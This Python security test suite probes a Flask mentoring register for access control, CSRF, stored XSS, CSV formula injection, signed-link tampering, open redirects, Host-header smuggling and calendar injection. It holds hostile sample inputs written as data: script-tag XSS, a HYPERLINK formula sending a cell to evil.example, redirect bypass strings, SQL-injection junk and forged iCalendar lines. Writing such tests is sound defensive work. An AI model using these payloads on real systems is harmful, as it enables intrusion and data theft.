"""An outside attacker's probe of the whole register, route by route.

Every route in `app.url_map` is listed here and tried as an attacker would: by
someone logged out, by a third person, by a mentee on the mentor's private parts,
by a non-administrator on the coordinators' pages; every POST without its CSRF
token; huge ids and NUL bytes; markup typed into every free-text field and looked
for on every page and email that shows it; formula cells in every CSV; signed
links replayed, swapped, tampered and expired; contact details before acceptance;
open redirects; and the limits on forms that send email. docs/security.md says
which test shows what.
"""

from __future__ import annotations

import csv
import io
import re
from datetime import timedelta
from urllib.parse import urljoin, urlsplit

import pytest
from flask import url_for
from sqlalchemy import func, select, update

from register import create_app
from register.auth.models import User
from register.database import utcnow
from register.extensions import db, limiter
from register.matching import services as matching
from register.mentors.models import MentorProfile
from register.mentorships import services
from register.mentorships.models import Evaluation, PersonalLink
from tests.conftest import BACKENDS, Browser
from tests.test_introductions import draft, make_mentor, send_request  # noqa: F401
from tests.test_mentorships import (  # noqa: F401
    MENTEE,
    MENTOR,
    agreement_draft,
    in_app,
    meeting_draft,
    mentorship,
    pair,
    path_of,
    person,
)

BOTH_BACKENDS = pytest.mark.parametrize("backend", BACKENDS, indirect=True)
XSS = '<script>alert("x")</script><img src=x onerror=alert(1)>'
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
HUGE = "99999999999999999999999"

# Every route the register serves, by who may use it. A new route fails
# test_every_route_is_in_the_probe until it is added here and so probed.
PUBLIC = {"main.index", "main.accessibility", "main.contact", "main.privacy", "main.healthz",
          "main.readyz", "static", "search.results", "mentors.profile",
          "auth.login", "auth.register", "auth.forgot_password", "auth.check_email",
          "auth.validate_signup_field", "auth.logout", "auth.reset_password",
          "auth.verify_email", "auth.resend_verification", "auth.claim_account",
          "auth.cancel_email_change", "auth.confirm_email_change",
          "introductions.answer_by_email", "mentorships.check_in",
          "mentorships.evaluate_by_link"}
OWN = {"auth.account", "auth.delete_account", "auth.change_email", "auth.change_password",
       "auth.log_out_everywhere", "auth.end_chosen_sessions", "mentorships.mine",
       "mentorships.portfolio", "mentorships.record", "mentorships.record_csv",
       "matching.objectives", "matching.suggested", "mentors.edit_profile",
       "mentors.pause_profile", "mentors.preview_profile", "mentors.resume_profile",
       "mentors.submit_profile", "introductions.inbox", "mentors.report",
       "introductions.compose", "introductions.live_preview"}
PARTIES = {"mentorships.show", "mentorships.agreement", "mentorships.agree",
           "mentorships.close", "mentorships.evaluation", "mentorships.cancel",
           "mentorships.move", "mentorships.record_meeting", "mentorships.plan",
           "mentorships.add_note", "mentorships.reflection", "mentorships.meeting_ics",
           "introductions.show", "introductions.accept", "introductions.decline",
           "introductions.withdraw"}
ADMIN = {"admin.dashboard", "admin.audit_log", "admin.import_upload", "admin.import_preview",
         "admin.import_confirm", "admin.moderation", "admin.resolve_report", "admin.profiles",
         "admin.profile", "admin.moderate", "admin.decide", "admin.mark_reviewed",
         "admin.queue", "matching.queue", "matching.mentee", "matching.propose",
         "matching.pairings", "matching.send_pairings", "mentorships.settings",
         "reports.figures", "reports.download"}


@pytest.fixture
def world(app, pair, make_user, mailbox):  # noqa: F811
    """A register under attack: an agreed, active pair with a meeting and notes; a closed
    pair with its evaluation links; a mentee waiting for matching; a stranger; an admin."""
    mentor, mentee, mid = pair(kind="formal")
    make_user("stranger@example.org", name="Sam Stranger")
    make_user("admin@example.org", name="Ann Admin", admin=True)

    def setup():
        proposal = services.propose_agreement(mentorship(mid), by=person(mentee),
                                              draft=agreement_draft())
        services.agree(proposal, by=person(mentor))
        meeting = services.plan_meeting(mentorship(mid), by=person(mentee),
                                        draft=meeting_draft())
        services.add_private_note(mentorship(mid), by=person(mentor),
                                  body="Mentor's private worry about the mentee")
        return proposal.id, meeting.id

    agreement_id, meeting_id = in_app(app, setup)
    other_mentor, other_mentee, closed_id = pair()
    in_app(app, lambda: services.close(mentorship(closed_id), by=person(other_mentee),
                                       reason="goals_met"))
    mailbox.deliver()
    links = {"mentee": path_of(mailbox.link_to(other_mentee.email, "/mentorships/evaluation/")),
             "mentor": path_of(mailbox.link_to(other_mentor.email, "/mentorships/evaluation/"))}
    return dict(mentor=mentor, mentee=mentee, mid=mid, agreement_id=agreement_id,
                meeting_id=meeting_id, closed_id=closed_id, other_mentor=other_mentor,
                other_mentee=other_mentee, evaluation_links=links)


def as_person(app, email) -> Browser:
    person_ = Browser(app.test_client())
    assert person_.log_in(email).status_code == 302
    return person_


def example_path(app, rule, world) -> str:
    """The rule with real ids of the active pair (or 1 where nothing fits)."""
    values = {"mentorship_id": world["mid"], "meeting_id": world["meeting_id"],
              "agreement_id": world["agreement_id"], "profile_id": 1, "request_id": 1,
              "user_id": 1, "batch_id": 1, "report_id": 1, "key": "requests",
              "token": "x", "field": "email", "answer": "met", "action": "accept",
              "filename": "css/site.css"}
    for name, converter in rule._converters.items():
        if hasattr(converter, "items"):  # any(...): its first choice
            values[name] = sorted(converter.items)[0]
    with app.test_request_context():
        return url_for(rule.endpoint, **{k: values[k] for k in rule.arguments})


def test_every_route_is_in_the_probe(app):
    endpoints = {rule.endpoint for rule in app.url_map.iter_rules()}
    assert endpoints - (PUBLIC | OWN | PARTIES | ADMIN) == set(), "probe the new routes"


def test_logged_out_visitors_reach_nothing_private(app, world, client):
    for rule in app.url_map.iter_rules():
        if rule.endpoint in PUBLIC:
            continue
        path = example_path(app, rule, world)
        for method in sorted(rule.methods - {"HEAD", "OPTIONS"}):
            response = client.open(path, method=method)
            assert response.status_code in (302, 400, 401, 403, 404), (method, path,
                                                                        response.status_code)
            if response.status_code == 302:
                assert "/auth/login" in response.headers["Location"], path


def test_a_third_person_and_a_non_admin_get_refused_everywhere(app, world):
    stranger = as_person(app, "stranger@example.org")
    # The mentor of another pair is a stranger here too.
    other_pairs_mentor = as_person(app, world["other_mentor"].email)
    mentee = as_person(app, MENTEE)
    for rule in app.url_map.iter_rules():
        if rule.endpoint not in PARTIES | ADMIN:
            continue
        path = example_path(app, rule, world)
        for method in sorted(rule.methods - {"HEAD", "OPTIONS"}):
            for outsider in (stranger, other_pairs_mentor):
                got = outsider.get(path) if method == "GET" else outsider.post(path)
                assert got.status_code in (403, 404), (method, path, got.status_code)
            if rule.endpoint in ADMIN:
                # A party to a mentorship is no coordinator either.
                got = mentee.get(path) if method == "GET" else mentee.post(path)
                assert got.status_code in (403, 404), (method, path, got.status_code)
    # The mentor's private note never reaches the mentee (nor the coordinators).
    page = mentee.get(f"/mentorships/{world['mid']}").get_data(as_text=True)
    assert "private worry" not in page
    admin = as_person(app, "admin@example.org")
    assert "private worry" not in admin.get(f"/mentorships/{world['mid']}").get_data(
        as_text=True)


def test_every_post_needs_its_csrf_token(app, world):
    admin = as_person(app, "admin@example.org")
    mentee = as_person(app, MENTEE)
    for rule in app.url_map.iter_rules():
        if "POST" not in rule.methods:
            continue
        path = example_path(app, rule, world)
        who = admin if rule.endpoint in ADMIN else mentee
        refused = who.post(path, {"body": "note", "reason": "goals_met"}, csrf=False)
        assert refused.status_code in (400, 403, 404, 410), (path, refused.status_code)
        if rule.endpoint in ("mentorships.add_note", "mentorships.plan"):
            assert refused.status_code == 400, path


@pytest.mark.parametrize("path", [
    f"/mentorships/{HUGE}", f"/mentorships/{HUGE}/agreement", f"/meetings/{HUGE}.ics",
    f"/mentorships/1/meetings/{HUGE}/move", f"/admin/matching/{HUGE}",
    f"/requests/{HUGE}", f"/mentors/{HUGE}", f"/admin/profiles/{HUGE}",
    f"/mentorships/1/agreement/{HUGE}/agree",
])
@BOTH_BACKENDS
def test_huge_ids_are_not_found(app, world, path):
    admin = as_person(app, "admin@example.org")
    assert admin.get(path).status_code in (404, 405)
    assert admin.post(path).status_code in (404, 405)


# Stored markup, on every page and email that shows it ------------------------------------


def test_markup_typed_anywhere_new_shows_as_text(
        app, pair, make_user, browser, mailbox, make_mentor):  # noqa: F811
    mentor, mentee, mid = pair(kind="formal")
    make_user("admin@example.org", name="Ann Admin", admin=True)
    waiting = make_user("waiting@example.org", name="Wendy Waiting")
    _, spare_profile = make_mentor("spare.mentor@example.org", capacity=3)

    def plant():
        proposal = services.propose_agreement(
            mentorship(mid), by=person(mentee),
            draft=agreement_draft(goals=[XSS], confidentiality=XSS))
        services.agree(proposal, by=person(mentor))
        meeting = services.plan_meeting(mentorship(mid), by=person(mentee),
                                        draft=meeting_draft(agenda=XSS, place=XSS))
        services.add_private_note(mentorship(mid), by=person(mentor), body=XSS)
        wants = matching.save_objectives(person(waiting), matching.ObjectivesDraft(
            objectives=[XSS], knowing=["how"], location=XSS, facilitated=True))
        matching.propose(wants, db.session.get(MentorProfile, spare_profile),
                         by=db.session.scalar(select(User).where(User.is_admin.is_(True))),
                         note=XSS)
        return meeting.id

    meeting_id = in_app(app, plant)
    with app.app_context():
        db.session.execute(update(services.Meeting).where(services.Meeting.id == meeting_id)
                           .values(starts_at=utcnow() - timedelta(hours=2)))
        db.session.commit()
    in_app(app, lambda: services.record_meeting(services.db.session.get(
        services.Meeting, meeting_id), by=person(mentor), held=True, notes=XSS, actions=XSS))
    in_app(app, lambda: services.close(mentorship(mid), by=person(mentee), reason="other",
                                       note=XSS))
    in_app(app, lambda: services.save_reflection(mentorship(mid), by=person(mentee),
                                                 draft=services.ReflectionDraft(learned=XSS)))
    in_app(app, lambda: services.submit_evaluation(mentorship(mid), by=person(mentor),
                                                   draft=services.EvaluationDraft(
                                                       usefulness=4, would_recommend=True,
                                                       goals_met=4, what_changed=XSS,
                                                       mentor_gained=XSS)))
    pages = {MENTOR: [f"/mentorships/{mid}", "/me/mentoring-record", "/me/mentorships",
                      f"/mentorships/{mid}/evaluation", "/me/requests"],
             MENTEE: [f"/mentorships/{mid}", f"/mentorships/{mid}/reflection", "/me/mentors",
                      f"/mentorships/{mid}/agreement"],
             "waiting@example.org": ["/me/objectives", "/mentors/suggested", "/me/requests"],
             "spare.mentor@example.org": ["/me/requests"],
             "admin@example.org": [f"/mentorships/{mid}", "/admin/matching",
                                   f"/admin/matching/{waiting.id}", "/admin/matching/pairings",
                                   "/admin/reports", "/admin/mentorships/settings",
                                   "/admin/audit"]}
    for email, paths in pages.items():
        visitor = as_person(app, email)
        for path in paths:
            page = visitor.get(path, follow_redirects=True)
            assert page.status_code == 200, (email, path)
            assert "<script>alert" not in page.get_data(as_text=True), (email, path)
            assert "<img src=x" not in page.get_data(as_text=True), (email, path)
    # The calendar file is a download, never a page a browser would draw.
    ics = as_person(app, MENTOR).get(f"/meetings/{meeting_id}.ics")
    assert ics.mimetype == "text/calendar"
    assert ics.headers["Content-Disposition"].startswith("attachment")
    mailbox.deliver()
    assert mailbox.received
    for message in mailbox.received:
        if message.html:
            assert "<script>alert" not in message.html, message.subject
            assert "<img src=x" not in message.html, message.subject


# Formula cells in every CSV ---------------------------------------------------------------


def cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def test_no_csv_download_starts_a_cell_with_a_formula(
        app, make_user, make_mentor, send_request, browser):  # noqa: F811
    _, profile_id = make_mentor("ada.mentor@example.org", name="Ada Mentor", capacity=10)
    make_user("admin@example.org", admin=True)
    for prefix in ("=", "+", "-", "@", " =", "\t="):
        mentee = make_user(name=prefix + 'HYPERLINK("http://evil.example","x")')
        request_id = send_request(mentee, profile_id)
        in_app(app, lambda r=request_id: services_accept(r))
    for query in (FORMULA, "-2+3", "@SUM(A1)"):
        browser.get("/mentors", query_string={"q": query})
    with app.app_context():
        from register.search import stats
        stats.flush()
    mentor = as_person(app, "ada.mentor@example.org")
    record = mentor.get("/me/mentoring-record.csv")
    assert record.status_code == 200
    assert len(cells(record.get_data(as_text=True))) > 6
    downloads = [record.get_data(as_text=True)]
    admin = as_person(app, "admin@example.org")
    with app.test_request_context():
        from register.reports import services as reports
        keys = [t.key for t in reports.figures(*_this_year()).tables()]
    for key in keys:
        got = admin.get(f"/admin/reports/{key}.csv")
        assert got.status_code == 200, key
        downloads.append(got.get_data(as_text=True))
    for text in downloads:
        for cell in cells(text):
            if re.fullmatch(r"-?\d+(\.\d+)?", cell):
                continue  # a number is a number
            assert not cell.lstrip(" \t\r\n").startswith(("=", "+", "-", "@")), cell


def services_accept(request_id):
    from register.introductions import services as introductions
    return introductions.accept(db.session.get(introductions.IntroRequest, request_id),
                                by=db.session.get(introductions.IntroRequest,
                                                  request_id).profile.user)


def _this_year():
    from register.reports import services as reports
    now = utcnow()
    period, _ = reports.period_from({}, now.date())
    return period, now


# Signed links: replayed, swapped, tampered, expired -----------------------------------------


EVALUATION_FORM = {"usefulness": "5", "would_recommend": "yes", "goals_met": "4",
                   "what_changed": "The mentee's own words about what changed"}


def test_evaluation_links_are_personal_single_use_and_untamperable(app, world, mailbox):
    links = world["evaluation_links"]
    mentee_link = links["mentee"]
    anonymous = Browser(app.test_client())
    # Tampered: one character changed, the signature cut off, another purpose's salt.
    token = mentee_link.rsplit("/", 1)[1]
    # (Not the last character: base64's spare bits there can decode to the same signature.)
    flipped = ("A" if token[0] != "A" else "B") + token[1:]
    for bad in (flipped, token.split(".")[0], token + "x", "%00" + token, "x" * 5000):
        got = anonymous.get(f"/mentorships/evaluation/{bad}")
        assert got.status_code in (400, 404), (bad[:20], got.status_code)
        assert anonymous.post(f"/mentorships/evaluation/{bad}",
                              EVALUATION_FORM).status_code in (400, 404)
    # A check-in answer from an evaluation token: different salts, nothing recorded.
    assert anonymous.post(f"/mentorships/check-in/met/{token}").status_code == 400
    # Swapped: the mentor, logged in, cannot use the mentee's link.
    other_mentor = as_person(app, world["other_mentor"].email)
    assert other_mentor.get(mentee_link).status_code == 404
    assert other_mentor.post(mentee_link, EVALUATION_FORM).status_code == 404
    with app.app_context():
        assert db.session.scalar(select(func.count()).select_from(Evaluation)) == 0
    # Used once, then refused.
    assert anonymous.post(mentee_link, EVALUATION_FORM).status_code == 200
    replay = anonymous.post(mentee_link, EVALUATION_FORM)
    assert replay.status_code == 400 and "already been used" in replay.get_data(as_text=True)
    with app.app_context():
        assert db.session.scalar(select(func.count()).select_from(Evaluation)) == 1
    # Expired: the mentor's link, a day past its lifetime.
    with app.app_context():
        db.session.execute(update(PersonalLink).values(expires_at=utcnow() - timedelta(days=1)))
        db.session.commit()
    expired = anonymous.get(links["mentor"])
    assert expired.status_code == 400 and "expired" in expired.get_data(as_text=True)


def test_nobody_sees_the_other_persons_evaluation(app, world):
    closed = world["closed_id"]
    Browser(app.test_client()).post(world["evaluation_links"]["mentee"], EVALUATION_FORM)
    secret = EVALUATION_FORM["what_changed"]
    for email, paths in (
            (world["other_mentor"].email, [f"/mentorships/{closed}", "/me/mentoring-record",
                                           "/me/mentoring-record.csv",
                                           f"/mentorships/{closed}/evaluation"]),
            ("admin@example.org", [f"/mentorships/{closed}", "/admin/reports",
                                   "/admin/reports/evaluation.csv", "/admin/"])):
        visitor = as_person(app, email)
        for path in paths:
            page = visitor.get(path, follow_redirects=True)
            assert page.status_code in (200, 404), (email, path)
            text = page.get_data(as_text=True)
            assert secret not in text, (email, path)
    with app.app_context():  # one answer is no figure: no average can be read off it
        figures = services.evaluation_aggregates()
        assert figures.answers == 1 and figures.usefulness is None


@BOTH_BACKENDS
def test_tokens_with_nul_bytes_or_junk_are_plain_refusals(app, world):
    anonymous = Browser(app.test_client())
    for path in ("/mentorships/check-in/met/%00", "/mentorships/evaluation/%00abc",
                 "/requests/1/accept/%00", "/auth/verify/%00", "/auth/reset-password/%00",
                 "/account/email/confirm/%00", "/auth/welcome/%00",
                 "/mentorships/check-in/met/" + "a" * 10000):
        got = anonymous.get(path)
        assert got.status_code in (400, 404, 410, 422), (path[:40], got.status_code)


# Contact details before acceptance ----------------------------------------------------------


def test_no_contact_details_before_acceptance(
        app, make_user, make_mentor, browser, mailbox):  # noqa: F811
    mentor_email, mentee_email = "hidden.mentor@example.org", "hidden.mentee@example.org"
    _, profile_id = make_mentor(mentor_email, name="Hilda Hidden", display_name="Hilda Hidden",
                                capacity=3)
    waiting = make_user(mentee_email, name="Wendy Waiting")
    make_user("admin@example.org", admin=True)

    def wait_and_propose():
        wants = matching.save_objectives(person(waiting), matching.ObjectivesDraft(
            objectives=["Lead a team"], knowing=["how"], facilitated=True))
        return wants

    in_app(app, wait_and_propose)
    admin = as_person(app, "admin@example.org")
    for path in ("/admin/matching", f"/admin/matching/{waiting.id}?q=Hilda",
                 "/admin/matching/pairings"):
        page = admin.get(path).get_data(as_text=True)
        assert "Hilda Hidden" in page, path  # the mentor is on the shortlist...
        assert mentor_email not in page, path  # ...but not how to reach her
    mentee = as_person(app, mentee_email)
    for path in ("/mentors/suggested", "/me/mentors", f"/mentors/{profile_id}"):
        assert mentor_email not in mentee.get(path).get_data(as_text=True), path
    form_token = admin.csrf_token("/admin/matching")
    assert admin.post(f"/admin/matching/{waiting.id}/propose",
                      {"profile_id": str(profile_id), "note": "A good fit",
                       "csrf_token": form_token}).status_code == 302
    mailbox.deliver()
    for message in mailbox.to(mentee_email):
        assert mentor_email not in message.text + message.html, message.subject
    for message in mailbox.to(mentor_email):
        assert mentee_email not in message.text + message.html, message.subject
    mentor = as_person(app, mentor_email)
    request_page = mentor.get("/me/requests").get_data(as_text=True)
    assert "Wendy Waiting" in request_page and mentee_email not in request_page
    assert mentor_email not in mentee.get("/me/requests").get_data(as_text=True)


# Redirects, hosts and health --------------------------------------------------------------


@pytest.mark.parametrize("target", [
    "//evil.example/", "https://evil.example/", "/\\evil.example", "\\\\evil.example",
    "/%09/evil.example", "http:evil.example", " //evil.example", "/\t/evil.example",
    "javascript:alert(1)", "///evil.example", "/..//evil.example",
])
def test_login_never_sends_anyone_to_another_site(app, make_user, browser, target):
    make_user("someone@example.org")
    got = browser.post(f"/auth/login?next={target}",
                       {"email": "someone@example.org", "password": "x" * 0 + _password(),
                        "next": target})
    assert got.status_code == 302
    # Where a browser would go: it drops tabs and newlines and reads \ as /.
    location = re.sub(r"[\t\n\r]", "", got.headers["Location"]).replace("\\", "/")
    landing = urlsplit(urljoin("http://localhost/auth/login", location))
    assert landing.scheme == "http" and landing.netloc == "localhost", location


def _password():
    from tests.conftest import TEST_PASSWORD
    return TEST_PASSWORD


def test_readyz_and_healthz_say_nothing_personal(app, world, client):
    for path in ("/readyz", "/healthz"):
        got = client.get(path)
        text = got.get_data(as_text=True)
        assert got.status_code in (200, 503)
        assert "@" not in text and "Mentor" not in text and "Mia" not in text, text
        assert "Set-Cookie" not in got.headers, path


# Nobody uses the register to spam ------------------------------------------------------------

# Every form a person can send again and again that emails someone else.
SENDS_EMAIL = {"mentorships.agreement", "mentorships.plan", "mentorships.move",
               "mentorships.cancel", "matching.propose", "matching.send_pairings"}


def test_every_form_that_emails_someone_else_is_limited():
    from tests.test_rate_limits import LIMITED
    assert SENDS_EMAIL - {item.endpoint for item in LIMITED if item.method == "POST"} == set()


def test_a_pair_cannot_flood_each_other_with_invitations(
        app_config, app, pair, mailbox):  # noqa: F811
    limited = create_app({**app_config, "RATELIMIT_ENABLED": True,
                          "RATELIMIT_STORAGE_URI": "memory://"})
    with limited.app_context():
        limiter.reset()
    mentor, mentee, mid = pair()
    mailbox.deliver()
    before = len(mailbox.to(MENTOR))
    attacker = Browser(limited.test_client())
    assert attacker.log_in(MENTEE).status_code == 302
    day = (utcnow() + timedelta(days=20)).date().isoformat()
    statuses = []
    for n in range(MEETING_ALLOWANCE + 1):
        statuses.append(attacker.post(f"/mentorships/{mid}/meetings/new", {
            "day": day, "at": f"{8 + n % 10:02d}:00", "minutes": "60", "format": "video",
            "place": "Online", "agenda": f"Meeting {n}"}).status_code)
    assert statuses[:-1] == [302] * MEETING_ALLOWANCE, statuses
    refused = attacker.post(f"/mentorships/{mid}/meetings/new", {"day": day, "at": "09:30"})
    assert refused.status_code == 429 and "too often" in refused.get_data(as_text=True)
    # Proposing agreements draws on the same allowance.
    assert attacker.post(f"/mentorships/{mid}/agreement", {"goal_1": "x"}).status_code == 429
    mailbox.deliver()
    assert len(mailbox.to(MENTOR)) - before == MEETING_ALLOWANCE
    # The mentor, writing from the same place, is not held back by the mentee.
    mentor_browser = Browser(limited.test_client())
    assert mentor_browser.log_in(MENTOR).status_code == 302
    assert mentor_browser.get(f"/mentorships/{mid}/meetings/new").status_code == 200
    assert mentor_browser.post(f"/mentorships/{mid}/meetings/new", {
        "day": day, "at": "19:00", "minutes": "60", "format": "video", "place": "Online",
        "agenda": "Mine"}).status_code == 302
    with limited.app_context():
        limiter.reset()
        db.engine.dispose()


MEETING_ALLOWANCE = 10


# Junk in the query string, on every page ------------------------------------------------------


JUNK = [{"page": HUGE}, {"page": "-1"}, {"start": "9999-99-99", "end": "0000-00-00"},
        {"start": "2026-12-31", "end": "1900-01-01"}, {"sector": "<x>", "knowing": "zzz"},
        {"q": "a" * 5000}, {"q": '"unbalanced (AND OR NOT *'}, {"next": "//evil.example"},
        {"per_page": HUGE, "sort": "id; drop table user"}]


@BOTH_BACKENDS
def test_junk_query_strings_never_break_a_page(app, world):
    admin = as_person(app, "admin@example.org")
    mentee = as_person(app, MENTEE)
    for rule in app.url_map.iter_rules():
        if "GET" not in rule.methods or rule.endpoint == "static":
            continue
        path = example_path(app, rule, world)
        who = admin if rule.endpoint in ADMIN else mentee
        for junk in JUNK:
            got = who.get(path, query_string=junk)
            assert got.status_code < 500 or rule.endpoint == "main.readyz", (path, junk)


def test_coordinators_and_mentors_see_no_evaluation_figures_under_three_answers(app, world):
    anonymous = Browser(app.test_client())
    anonymous.post(world["evaluation_links"]["mentee"], {
        "usefulness": "1", "would_recommend": "no", "goals_met": "1", "what_changed": ""})
    admin = as_person(app, "admin@example.org")
    figures = admin.get("/admin/reports").get_data(as_text=True)
    csv_text = admin.get("/admin/reports/evaluation.csv").get_data(as_text=True)
    # One answer of 1 out of 5: no average of it anywhere.
    for text in (figures, csv_text):
        assert not re.search(r"\b1\.0\b", text), text[:2000]
    record = as_person(app, world["other_mentor"].email).get("/me/mentoring-record")
    assert not re.search(r"\b1\.0\b", record.get_data(as_text=True))


# Against a real gunicorn on 127.0.0.1 ---------------------------------------------------------


@pytest.fixture(scope="module")
def gunicorn(tmp_path_factory):
    """The register as production runs it: gunicorn, a migrated database, SERVER_NAME set."""
    import os
    import socket
    import subprocess
    import sys
    import time
    from pathlib import Path

    folder = tmp_path_factory.mktemp("gunicorn")
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        port = probe.getsockname()[1]
    env = {"PATH": os.environ["PATH"], "HOME": os.environ.get("HOME", str(folder)),
           "SECRET_KEY": "probe-" + "k" * 40, "DATABASE_URL": f"sqlite:///{folder}/db.sqlite",
           "SEARCH_INDEX_DIR": str(folder / "index"), "SERVER_NAME": "register.test",
           "WEB_CONCURRENCY": "1", "MAIL_SERVER": "127.0.0.1", "MAIL_PORT": "9"}
    root = Path(__file__).resolve().parent.parent
    bin_dir = Path(sys.executable).parent
    subprocess.run([str(bin_dir / "flask"), "--app", "wsgi", "db", "upgrade"], cwd=root,
                   env=env, check=True, capture_output=True, timeout=120)
    server = subprocess.Popen([str(bin_dir / "gunicorn"), "-c", "deploy/gunicorn.conf.py",
                               "--workers", "1", "--bind", f"127.0.0.1:{port}", "wsgi:app"],
                              cwd=root, env=env,
                              stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    # Ready once a worker answers, not once the port is open: on a busy machine the
    # worker may still be loading the app while the arbiter already listens.
    deadline = time.monotonic() + 60
    while time.monotonic() < deadline:
        try:
            if raw(port, "/healthz")[0] == 200:
                break
        except OSError:
            time.sleep(0.2)
    yield port
    server.terminate()
    server.wait(timeout=20)


def raw(port: int, path: str, headers: dict | None = None, method: str = "GET"):
    """One request with exactly the headers given (http.client adds no Host of its own)."""
    import http.client
    connection = http.client.HTTPConnection("127.0.0.1", port, timeout=10)
    connection.putrequest(method, path, skip_host=True, skip_accept_encoding=True)
    for name, value in ({"Host": "register.test"} | (headers or {})).items():
        connection.putheader(name, value)
    connection.endheaders()
    response = connection.getresponse()
    body = response.read().decode("utf-8", "replace")
    connection.close()
    return response.status, dict(response.getheaders()), body


def test_a_real_server_refuses_what_an_attacker_sends(gunicorn):
    assert raw(gunicorn, "/auth/login")[0] == 200
    # A foreign Host, and one smuggled through the proxy headers gunicorn does not trust.
    assert raw(gunicorn, "/auth/login", {"Host": "evil.example"})[0] == 400
    status, headers, body = raw(gunicorn, "/auth/login", {"X-Forwarded-Host": "evil.example",
                                                          "X-Forwarded-Proto": "https"})
    assert status == 200 and "evil.example" not in body
    assert "evil.example" not in headers.get("Location", "")
    # Huge ids, NUL bytes, junk tokens: refused plainly, never a 500.
    for path in (f"/mentors/{HUGE}", f"/mentorships/{HUGE}", f"/meetings/{HUGE}.ics",
                 "/mentorships/evaluation/%00", "/mentorships/check-in/met/%00x",
                 "/mentors?q=%00", f"/admin/profiles?page={HUGE}", "/auth/login?next=%00"):
        status = raw(gunicorn, path)[0]
        assert status in (302, 400, 403, 404, 422), (path, status)
    # Logged-out visitors reach none of the new private pages.
    for path in ("/me/mentors", "/me/mentoring-record.csv", "/mentors/suggested",
                 "/admin/matching", "/admin/reports/requests.csv", "/me/objectives"):
        status, headers, _ = raw(gunicorn, path)
        assert status in (302, 403), (path, status)
        if status == 302:
            assert headers["Location"].startswith(("/auth/login", "http://register.test/")), \
                headers["Location"]
    # Health says nothing personal, and is cheap to ask.
    status, headers, body = raw(gunicorn, "/readyz")
    assert status in (200, 503) and "@" not in body
    assert "Set-Cookie" not in headers


def test_check_in_links_do_not_swap_between_the_two_people(app, pair, mailbox):  # noqa: F811
    from tests.test_mentorships import age_mentorship, remind

    mentor, mentee, mid = pair()
    age_mentorship(app, mid, days=31)
    remind(app)
    mentees_link = path_of(mailbox.link_to(MENTEE, "/check-in/met/"))
    mentors_link = path_of(mailbox.link_to(MENTOR, "/check-in/not_working/"))
    mentor_browser, mentee_browser = as_person(app, MENTOR), as_person(app, MENTEE)
    assert mentor_browser.post(mentees_link).status_code == 404
    assert mentee_browser.post(mentors_link).status_code == 404
    with app.app_context():
        assert db.session.scalar(select(func.count()).select_from(PersonalLink).where(
            PersonalLink.answer.is_not(None))) == 0
    # Each person's own link still works, once.
    assert mentee_browser.post(mentees_link).status_code == 200
    assert mentee_browser.post(mentees_link).status_code == 400


def test_text_cannot_add_properties_to_the_calendar_file(app, pair):  # noqa: F811
    import icalendar

    mentor, mentee, mid = pair()
    forged = "Agenda\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nORGANIZER:mailto:evil@example.org\r\nX:"
    meeting_id = in_app(app, lambda: services.plan_meeting(
        mentorship(mid), by=person(mentee),
        draft=meeting_draft(agenda=forged, place="Room 1\nATTENDEE:mailto:evil@example.org")).id)
    got = as_person(app, MENTOR).get(f"/meetings/{meeting_id}.ics")
    assert got.status_code == 200
    calendar = icalendar.Calendar.from_ical(got.get_data())
    events = list(calendar.walk("VEVENT"))
    assert len(events) == 1
    assert "evil@example.org" not in str(events[0].get("ORGANIZER", ""))
    attendees = events[0].get("ATTENDEE") or []
    attendees = attendees if isinstance(attendees, list) else [attendees]
    assert all("evil" not in str(a) for a in attendees)
    assert "ORGANIZER:mailto:evil" in str(events[0]["DESCRIPTION"])  # kept, as text


def test_private_pages_and_downloads_are_never_cached(app, world):
    mentee, admin = as_person(app, MENTEE), as_person(app, "admin@example.org")
    for who, path in ((mentee, f"/mentorships/{world['mid']}"),
                      (mentee, f"/meetings/{world['meeting_id']}.ics"),
                      (mentee, "/me/mentors"), (mentee, "/mentors/suggested"),
                      (as_person(app, MENTOR), "/me/mentoring-record.csv"),
                      (admin, "/admin/reports/requests.csv"), (admin, "/admin/matching")):
        got = who.get(path)
        assert got.status_code == 200, path
        assert "no-store" in got.headers.get("Cache-Control", ""), path


@BOTH_BACKENDS
def test_nul_bytes_in_the_new_forms_are_refused_and_nothing_is_stored(app, world):
    mid, mentee = world["mid"], as_person(app, MENTEE)
    admin = as_person(app, "admin@example.org")
    day = (utcnow() + timedelta(days=30)).date().isoformat()
    for who, path, form in (
            (mentee, f"/mentorships/{mid}/notes", {"body": "a\x00b"}),
            (mentee, f"/mentorships/{mid}/meetings/new", {
                "day": day, "at": "10:00", "minutes": "60", "format": "video",
                "place": "Online", "agenda": "x\x00y"}),
            (mentee, f"/mentorships/{mid}/agreement", {"goal_1": "Lead\x00"}),
            (mentee, "/me/objectives", {"objectives-0": "\x00", "matching": "self"}),
            (admin, f"/admin/matching/{world['mentee'].id}/propose",
             {"profile_id": "1", "note": "\x00"}),
            (admin, "/admin/mentorships/settings", {"confidentiality": "\x00"})):
        got = who.post(path, form)
        assert got.status_code == 422, (path, got.status_code)
        assert "control character" in got.get_data(as_text=True), path
    with app.app_context():
        from register.mentorships.models import Meeting, PrivateNote
        assert db.session.scalar(select(func.count()).select_from(PrivateNote)) == 1
        assert db.session.scalar(select(func.count()).select_from(Meeting)) == 1
